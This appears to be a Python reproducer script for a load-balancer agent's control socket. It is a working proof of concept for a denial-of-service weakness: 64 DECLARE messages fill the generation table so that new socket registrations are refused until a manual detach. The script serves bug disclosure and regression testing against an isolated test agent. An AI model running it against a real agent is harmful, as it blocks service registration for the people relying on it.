#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
"""Reproducer (not run by make test): an allowed peer blocks every new
socket generation of a host agent.

DECLARE creates a generation in state NEW; ag_update_gens() (ctl/agent_gens.c)
keeps a NEW generation without sockets forever and writes it to the pinned
qlb_gens, so after 64 (QLB_HOST_MAX_GENS) DECLAREs every REGISTER of a new
generation is refused with -ENOSPC "too many live generations (64)", also
after the agent restarts (it recovers qlb_gens), until `qlbctl agent detach`.

Run against a test agent only (its own netns and pin_dir):
    nsenter --net=/run/netns/NS qlbctl agent -f qlb.yaml &
    nsenter --net=/run/netns/NS python3 agent-declare-exhaust.py SOCKET
Prints "register gen 100 -> refused -28 ..." while the weakness exists.
"""
import array
import socket
import struct
import sys

MAGIC = 0x41424c51


def msg(t, body=b''):
    return struct.pack('<IHHII', MAGIC, 1, t, len(body), 0) + body


def rd(s):
    _, _, t, l, _ = struct.unpack('<IHHII', s.recv(16, socket.MSG_WAITALL))
    return t, s.recv(l, socket.MSG_WAITALL) if l else b''


path = sys.argv[1]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
rd(s)  # HELLO
for g in range(1, 65):  # DECLARE generations 1..64, no socket ever
    s.sendall(msg(8, struct.pack('<II', g, 0)))
    rd(s)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
u.bind(('0.0.0.0', 0))
s2 = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s2.connect(path)
rd(s2)
s2.sendmsg([msg(3, struct.pack('<IIII', 100, 1, 0, 0))],
           [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [u.fileno()]))])
t, b = rd(s2)
if t == 2:
    code = struct.unpack('<i', b[:4])[0]
    print('register gen 100 -> refused', code, b[8:].split(b'\0')[0].decode())
    sys.exit(1 if code else 0)
print('register gen 100 -> registered (fixed)')
